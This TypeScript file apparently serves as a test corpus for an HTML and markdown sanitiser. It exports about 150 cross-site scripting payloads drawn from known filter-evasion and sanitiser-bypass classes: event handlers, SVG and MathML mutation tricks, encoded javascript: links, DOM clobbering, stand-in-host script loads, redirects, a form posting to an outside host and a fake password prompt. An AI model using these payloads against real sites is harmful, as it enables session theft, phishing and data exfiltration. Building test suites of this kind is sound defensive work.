/**
 * Script injections that people know, by the way they take: the classes of the OWASP cheat sheet on filter evasion and of
 * the bypasses that sanitisers had, in words of our own. Each tries to call `window.pwned`, to leave the page, or to ask
 * another host.
 */
const away = 'https://elsewhere.invalid'
const zero = String.fromCodePoint(0)
const wide = (text: string) => text.replace(/[!-~]/g, (one) => String.fromCodePoint(one.codePointAt(0)! + 0xfee0))
const decimal = (text: string) => [...text].map((one) => `&#${one.codePointAt(0)!}`).join('')
const padded = (text: string) => [...text].map((one) => `&#${String(one.codePointAt(0)!).padStart(7, '0')};`).join('')
const hex = (text: string) => [...text].map((one) => `&#x${one.codePointAt(0)!.toString(16)};`).join('')
const call = 'javascript:pwned()'

const scripts = [
  '<script>pwned()</script>',
  '<SCRIPT SRC=//elsewhere.invalid/x.js></SCRIPT>',
  '<script/x>pwned()</script/x>',
  '<scr<script>ipt>pwned()</scr</script>ipt>',
  '<<script>pwned();//<</script>',
  '<script\n>pwned()</script\n>',
  `<scr${zero}ipt>pwned()</scr${zero}ipt>`,
  `<script type="module">import "${away}/x.js"</script>`,
  `<script src="data:text/javascript,pwned()"></script>`,
  '<script>window.location = "https://elsewhere.invalid/"</script>',
  `<link rel="modulepreload" href="${away}/x.js">`,
  '<noscript><p title="</noscript><script>pwned()</script>"></noscript>',
]

const handlers = [
  '<img src=x onerror=pwned()>',
  '<IMG SRC=x OnErRoR="pwned()">',
  '<img/src=`x`onerror=pwned()>',
  '<img src=x:x onerror\n=\n"pwned()">',
  `<img src=x one${zero}rror=pwned()>`,
  '<img """><script>pwned()</script>">',
  '<img src=x onerror="&#112;wned()">',
  '<img src=# onmouseover=pwned() onload=pwned()>',
  '<body onload=pwned()>',
  '<body onpageshow=pwned() onhashchange=pwned() onfocus=pwned()>',
  '<input autofocus onfocus=pwned()>',
  '<select autofocus onfocus=pwned()></select>',
  '<textarea autofocus onfocus=pwned()></textarea>',
  '<button autofocus onfocus=pwned()>x</button>',
  '<p tabindex=1 autofocus contenteditable onfocusin=pwned()>x</p>',
  '<details open ontoggle=pwned()>x</details>',
  '<video src=x onerror=pwned()></video>',
  '<audio src=x onerror=pwned() onloadstart=pwned()></audio>',
  '<video><source onerror=pwned()></video>',
  '<marquee onstart=pwned()>x</marquee>',
  '<div onpointerrawupdate=pwned() onwheel=pwned() onscroll=pwned()>x</div>',
  '<p onclick="pwned()" oncopy="pwned()">x</p>',
  '<a href="#x" onclick=pwned()>x</a>',
  '<div popover id=p onbeforetoggle=pwned()></div>',
]

const graphics = [
  '<svg onload=pwned()>',
  '<svg/onload=pwned()>',
  '<svg><script>pwned()</script></svg>',
  '<svg><script href="data:text/javascript,pwned()"/></svg>',
  '<svg><animate onbegin=pwned() attributeName=x dur=1s></svg>',
  '<svg><set onbegin=pwned() attributeName=x to=1></svg>',
  `<svg><a><animate attributeName=href values="${call}"/><text>x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>pwned()</script></svg>#x"/></svg>`,
  '<svg><foreignObject><iframe srcdoc="<script>parent.pwned()</script>"></iframe></foreignObject></svg>',
  `<svg><image href="${away}/x.png"/></svg>`,
  '<svg><style><img title="</style><img src=x onerror=pwned()>"></style></svg>',
  '<svg></p><style><a id="</style><img src=1 onerror=pwned()>">',
  `<math href="${call}">x</math>`,
  `<math><maction actiontype="statusline" xlink:href="${call}">x</maction></math>`,
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=pwned()&gt;">',
  '<math><mtext><table><mglyph><style><math href="x"><img src onerror=pwned()></style></math>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=pwned()>',
  '<math><annotation-xml encoding="text/html"><img src=x onerror=pwned()></annotation-xml></math>',
]

const mutations = [
  '<noembed><img title="</noembed><img src onerror=pwned()>"></noembed>',
  '<xmp><img title="</xmp><img src onerror=pwned()>"></xmp>',
  '<title><a title="</title><img src onerror=pwned()>"></title>',
  '<textarea><img title="</textarea><img src onerror=pwned()>"></textarea>',
  '<style><img title="</style><img src onerror=pwned()>"></style>',
  '<template><img src=x onerror=pwned()></template>',
  '<div><template shadowrootmode=open><img src=x onerror=pwned()></template></div>',
  '<table><td><img src=x onerror=pwned()></table><p>',
  '<!--><img src onerror=pwned()>-->',
  '<!--!><img src=x onerror=pwned()>',
  '<![CDATA[<img src=x onerror=pwned()>]]>',
  '<?xml version="1.0"?><img src=x onerror=pwned()>',
  '<p title="<!--"><img src=x onerror=pwned()>--></p>',
  '<a title="`<img src=x onerror=pwned()>`">x</a>',
  '</div></div></main><img src=x onerror=pwned()>',
]

const addresses = [
  `<a href="${call}">x</a>`,
  '<a href=" &#14; javascript:pwned()">x</a>',
  '<a href="JaVaScRiPt:pwned()">x</a>',
  '<a href="jav&#x09;ascript:pwned()">x</a>',
  '<a href="jav&#x0A;ascript:pwned()">x</a>',
  '<a href="java\nscript:pwned()">x</a>',
  '<a href="javascript&colon;pwned()">x</a>',
  '<a href="javascript&#58;&#x2f;&#x2f;%0apwned()">x</a>',
  `<a href="${decimal(call)}">x</a>`,
  `<a href="${padded(call)}">x</a>`,
  `<a href="${hex(call)}">x</a>`,
  `<a href="java${zero}script:pwned()">x</a>`,
  `<a href="\u0001${call}">x</a>`,
  `<a href="\u00a0${call}">x</a>`,
  `<a href="${wide('javascript')}:pwned()">x</a>`,
  '<a href="data:text/html,<script>opener.pwned()</script>">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5vcGVuZXIucHduZWQoKTwvc2NyaXB0Pg==">x</a>',
  '<a href="vbscript:pwned()">x</a>',
  '<a href="livescript:pwned()" ping="https://elsewhere.invalid/">x</a>',
  '<a href="blob:https://elsewhere.invalid/1">x</a>',
  '<a href="//elsewhere.invalid/">x</a>',
  '<a href="view-source:javascript:pwned()">x</a>',
  `<area href="${call}"><map name=x><area href="${call}"></map>`,
]

const markdown = [
  `[x](${call})`,
  '[x](JaVaScRiPt:pwned())',
  '[x](<javascript:pwned()>)',
  '[x](javascript&#58;pwned())',
  '[x](&#x6A;avascript:pwned())',
  '[x](java\\script:pwned())',
  '[x]( \u0001javascript:pwned())',
  '[x](data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+)',
  '[x](vbscript:pwned())',
  `[x][trap]\n\n[trap]: ${call}`,
  '<javascript:pwned()>',
  '<javascript&#58;pwned()>',
  '![x](x"onerror="pwned())',
  '![x](javascript:pwned())',
  `![x](${away}/x.png)`,
  '![x"onerror="pwned()](x)',
  '[x](https://a.invalid "x\\"onmouseover=\\"pwned()")',
  '[<img src=x onerror=pwned()>](https://a.invalid)',
  '[![x](x"onerror="pwned())](javascript:pwned())',
  '`<img src=x onerror=pwned()>`',
  '```"><img src=x onerror=pwned()>\nx\n```',
  '```html\n<script>pwned()</script>\n```',
  '> <script>pwned()\n> </script>',
  '- <img src=x\n  onerror=pwned()>',
  '# <img src=x onerror=pwned()>',
  '| <img src=x onerror=pwned()> |\n|---|\n| [x](javascript:pwned()) |',
  '\\<script>pwned()</script>',
  '&lt;script&gt;pwned()&lt;/script&gt;',
  '<a href="`">[x](x` onmouseover=pwned() `)</a>',
  'www.a.invalid"onmouseover="pwned()',
]

const elements = [
  `<iframe src="${call}"></iframe>`,
  '<iframe srcdoc="&lt;script&gt;parent.pwned()&lt;/script&gt;"></iframe>',
  `<iframe src="${away}"></iframe>`,
  '<frameset><frame src="javascript:pwned()"></frameset>',
  `<object data="${call}"></object>`,
  `<embed src="${call}">`,
  `<object type="text/html" data="${away}"></object>`,
  '<applet code="x"></applet>',
  `<base href="${away}/">`,
  `<meta http-equiv="refresh" content="0;url=${away}/">`,
  `<meta http-equiv="refresh" content="0;url=${call}">`,
  '<meta http-equiv="Content-Security-Policy" content="script-src *">',
  `<link rel="stylesheet" href="${away}/x.css">`,
  `<link rel="prefetch" href="${away}/x"><link rel="dns-prefetch" href="${away}">`,
  `<form action="${away}"><input name=key><button>x</button></form>`,
  `<form action="${call}"><input type=submit></form>`,
  `<button form=x formaction="${call}">x</button><form id=x></form>`,
  `<isindex action="${call}" type=image>`,
  `<img src="${away}/x.png">`,
  `<img srcset="${away}/x.png 1x, ${away}/y.png 2x" alt="">`,
  `<picture><source srcset="${away}/x.png"><img alt=""></picture>`,
  `<video poster="${away}/x.png"></video><audio src="${away}/x.ogg"></audio>`,
  `<input type=image src="${away}/x.png">`,
  `<table background="${away}/x.png"><td background="${away}/y.png">x</table>`,
  '<dialog open>You were signed out. <input type=password></dialog>',
]

const styles = [
  `<style>@import "${away}/x.css"; * { background: url(${away}/y.png) }</style>`,
  `<p style="background:url(${away}/x.png)">x</p>`,
  '<p style="position:fixed;inset:0;z-index:9">cover</p>',
  '<p style="width:expression(pwned())">x</p>',
  '<style>@keyframes x{}</style><p style="animation-name:x" onanimationstart=pwned()>x</p>',
  '<p style="transition:color 1s" ontransitionend=pwned() onanimationend=pwned()>x</p>',
  '<div class="skip danger" hidden>x</div>',
]

const clobbering = [
  '<a id=pwned></a><a id=pwned name=x href="cid:x">x</a>',
  '<form id=document><input name=cookie></form>',
  '<img name=getElementById><img name=body>',
  '<form><input name=attributes><input name=parentNode></form>',
  '<p id="app">x</p><p id="main">x</p>',
  '<a id=location href="https://elsewhere.invalid/">x</a>',
  '<iframe name=fetch src="about:blank"></iframe>',
]

const letters = [
  `${wide('<script>')}pwned()${wide('</script>')}`,
  '\u2028<script>pwned()</script>',
  '+ADw-script+AD4-pwned()+ADw-/script+AD4-',
  '\u202e<script>pwned()</script>',
  '\ufeff<img src=x onerror=pwned()>',
  '%3Cscript%3Epwned()%3C/script%3E',
  '{{constructor.constructor("pwned()")()}} ${pwned()} <%= pwned() %>',
]

export const injections: readonly string[] = [
  scripts,
  handlers,
  graphics,
  mutations,
  addresses,
  markdown,
  elements,
  styles,
  clobbering,
  letters,
].flat()
